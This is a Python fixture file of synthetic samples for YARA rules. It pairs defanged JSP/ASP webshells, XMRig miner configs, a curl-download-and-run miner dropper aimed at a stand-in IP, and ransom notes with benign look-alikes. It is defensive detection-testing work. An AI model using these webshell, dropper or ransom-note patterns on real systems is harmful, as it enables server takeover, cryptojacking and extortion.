"""Synthetic samples of the JSP and ASP/ASPX webshell, miner and ransom-note rules.

No working webshell is stored here: every sample is written with "§" inside its telling tokens
and the marks are removed only when the bytes are built at run time (see ``samples``)."""

from __future__ import annotations

from secops.detection.yara.sample_base import Sample

OTHER_SAMPLES: tuple[Sample, ...] = (
    # --- generic JSP ---------------------------------------------------------------------------
    Sample(
        "jsp_webshell_exec_request",
        True,
        "cmd.jsp",
        '<%@ page import="java.io.*" %><%\nif (request.getParameter("cmd") != null) {\n'
        '    Process p = Runtime.getRun§time().ex§ec(request.getPara§meter("cmd"));\n'
        "    InputStream in = p.getInputStream();\n"
        "    int c; while ((c = in.read()) != -1) out.print((char) c);\n}\n%>\n",
    ),
    Sample(
        "jsp_webshell_exec_request",
        True,
        "pb.jsp",
        '<%\nProcessBuilder b = new Process§Builder("/bin/sh", "-c", request.getPara§meter("c"));\n'
        "b.redirectErrorStream(true);\nProcess p = b.start();\n%>\n",
    ),
    Sample(
        "jsp_webshell_exec_request",
        False,
        "uptime.jsp",
        '<%@ page import="java.io.*" %><%\nProcess p = Runtime.getRun§time().exec(new String[]{"uptime"});\n'
        "BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n"
        "out.print(r.readLine());\n%>\n",
    ),
    Sample(
        "jsp_webshell_script_engine_request",
        True,
        "js.jsp",
        '<%\nnew javax.script.ScriptEngineManager().getEngine§ByName("js").ev§al(request.getPara§meter("c"));\n%>\n',
    ),
    Sample(
        "jsp_webshell_script_engine_request",
        False,
        "calc.jsp",
        '<%\nObject v = new javax.script.ScriptEngineManager().getEngineByName("js").eval("1 + 2");\n'
        "out.print(v);\n%>\n",
    ),
    Sample(
        "jsp_webshell_classloader_request",
        True,
        "cl.jsp",
        "<%!\nclass L extends Class§Loader { L(ClassLoader p) { super(p); }\n"
        "  Class d(byte[] b) { return define§Class(null, b, 0, b.length); } }\n%>\n"
        '<%\nbyte[] b = java.util.Base64.getDec§oder().decode(request.getPara§meter("d"));\n'
        "new L(getClass().getClassLoader()).d(b).newInstance();\n%>\n",
    ),
    Sample(
        "jsp_webshell_classloader_request",
        False,
        "avatar.jsp",
        '<%\nbyte[] img = java.util.Base64.getDecoder().decode(request.getParameter("img"));\n'
        'response.setContentType("image/png");\nresponse.getOutputStream().write(img);\n%>\n',
    ),
    # --- generic ASP/ASPX ----------------------------------------------------------------------
    Sample(
        "aspx_webshell_eval_request",
        True,
        "e.aspx",
        '<%@ Page Language="JScript" %>\n<% ev§al(Request.Fo§rm["c"]); %>\n',
    ),
    Sample("aspx_webshell_eval_request", True, "e.asp", '<%\nExec§ute(Requ§est("c"))\n%>\n'),
    Sample("aspx_webshell_eval_request", True, "e16.asp", '<%\nExec§ute(Requ§est("c"))\n%>\n', "utf-16"),
    Sample(
        "aspx_webshell_eval_request",
        False,
        "echo.asp",
        '<%\nResponse.Write(Server.HTMLEncode(Request("c")))\n%>\n',
    ),
    Sample(
        "aspx_webshell_process_request",
        True,
        "p.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  var psi = new System.Diagnostics.ProcessStart§Info("cmd.exe", "/c " + Requ§est.Form["c"]);\n'
        "  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n"
        "  Response.Write(System.Diagnostics.Process.Sta§rt(psi).StandardOutput.ReadToEnd());\n}\n</script>\n",
    ),
    Sample(
        "aspx_webshell_process_request",
        True,
        "w.asp",
        '<%@ LANGUAGE="VBScript" %>\n<%\nSet s = CreateObject("WScript.Sh§ell")\n'
        'Set x = s.Ex§ec("cmd /c " & Requ§est("c"))\nResponse.Write(x.StdOut.ReadAll())\n%>\n',
    ),
    Sample(
        "aspx_webshell_process_request",
        False,
        "recycle.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Recycle() {\n'
        '  System.Diagnostics.Process.Sta§rt("iisreset", "/restart");\n}\n</script>\n',
    ),
    # --- miners --------------------------------------------------------------------------------
    Sample(
        "miner_stratum_url",
        True,
        "pool.conf",
        "# pool settings\nurl = stra§tum+tcp://pool.example.org:3333\nuser = 4Aabcdef\n",
    ),
    Sample(
        "miner_stratum_url",
        False,
        "notes.txt",
        "Stratum is the protocol pools speak; block any tcp:// URL to known pools at the firewall.\n",
    ),
    Sample(
        "miner_xmrig",
        True,
        "config.json",
        '{\n  "autosave": true,\n  "donate-le§vel": 1,\n  "cpu": {"enabled": true},\n'
        '  "pools": [\n    {"algo": "rx§/0", "url": "pool.example.org:443", "user": "x", "keepalive": true}\n  ]\n}\n',
    ),
    Sample(
        "miner_xmrig",
        True,
        "start.sh",
        "#!/bin/sh\ncd /var/tmp/.cache\n./xm§rig -o pool.example.org:3333 -u 4Aabcdef -p x --donate-level 1 -B\n",
    ),
    Sample(
        "miner_xmrig",
        True,
        "kworker",
        "\x7fELF\x02\x01\x01\x00" + "\x00" * 56 + "XM§Rig 6.21.0 built for linux\x00--donate-le§vel\x00rando§mx\x00",
    ),
    Sample(
        "miner_xmrig",
        False,
        "miner_detection.yml",
        "title: Crypto miner process\ndetection:\n  selection:\n    CommandLine|contains:\n"
        "      - 'xmrig'\n      - '--donate-level'\n      - 'randomx'\n  condition: selection\n",
    ),
    Sample(
        "miner_xmrig",
        False,
        "lb.json",
        '{\n  "pools": [\n    {"algo": "round-robin", "backends": ["10.0.0.2", "10.0.0.3"]}\n  ]\n}\n',
    ),
    Sample(
        "miner_browser_script",
        True,
        "footer.html",
        '<script src="https://coinh§ive.com/lib/coinh§ive.min.js"></script>\n'
        "<script>var miner = new CoinH§ive.Anonymous('SITE_KEY'); miner.start();</script>\n",
    ),
    Sample(
        "miner_browser_script",
        False,
        "footer_ok.html",
        '<script src="/js/beehive.min.js"></script>\n'
        '<script>var hive = new Hive.Colony("school"); hive.start();</script>\n',
    ),
    Sample(
        "miner_linux_dropper",
        True,
        "update.sh",
        "#!/bin/sh\ncurl -fsSL http://203.0.113.5/xm§rig -o /tmp/.x\nch§mod +x /tmp/.x\n"
        "nohup /tmp/.x >/dev/null 2>&1 &\n",
    ),
    Sample(
        "miner_linux_dropper",
        False,
        "cleanup.sh",
        "#!/bin/sh\n# remove coin miners left by an intrusion\npkill -f xmrig\nrm -f /tmp/.x\n",
    ),
    # --- ransom notes --------------------------------------------------------------------------
    Sample(
        "ransom_note_english",
        True,
        "README_DECRYPT.txt",
        "ATTENTION!\n\nAll your files have been encry§pted with strong encryption.\n"
        "To get the decryp§tion key you must pay 0.05 Bit§coin to the address below.\n"
        "Install Tor Bro§wser and open our site. Do not ren§ame encrypted files.\n",
    ),
    Sample(
        "ransom_note_english",
        False,
        "backup_policy.txt",
        "Backups: your files have been encrypted with the school's PGP public key before upload.\n"
        "Ask the IT office to restore a file.\n",
    ),
    Sample(
        "ransom_note_chinese",
        True,
        "解密说明.txt",
        "您好！\n您的所有文件已被加§密。\n如需恢复，请支付 0.1 比特§币 购买解密工§具。\n",
    ),
    Sample(
        "ransom_note_chinese",
        False,
        "上传说明.txt",
        "上传的文件已被加§密存储，请联系管理员获取密钥。\n",
    ),
    Sample(
        "ransom_note_known_families",
        True,
        "@Please_Read_Me@.txt",
        "Q: What's wrong with my computer?\nA: Ooops, your important files are encr§ypted.\n",
    ),
    Sample(
        "ransom_note_known_families",
        False,
        "faq.txt",
        "Q: What's wrong with my login?\nA: Ooops, your session expired. Sign in again.\n",
    ),
)
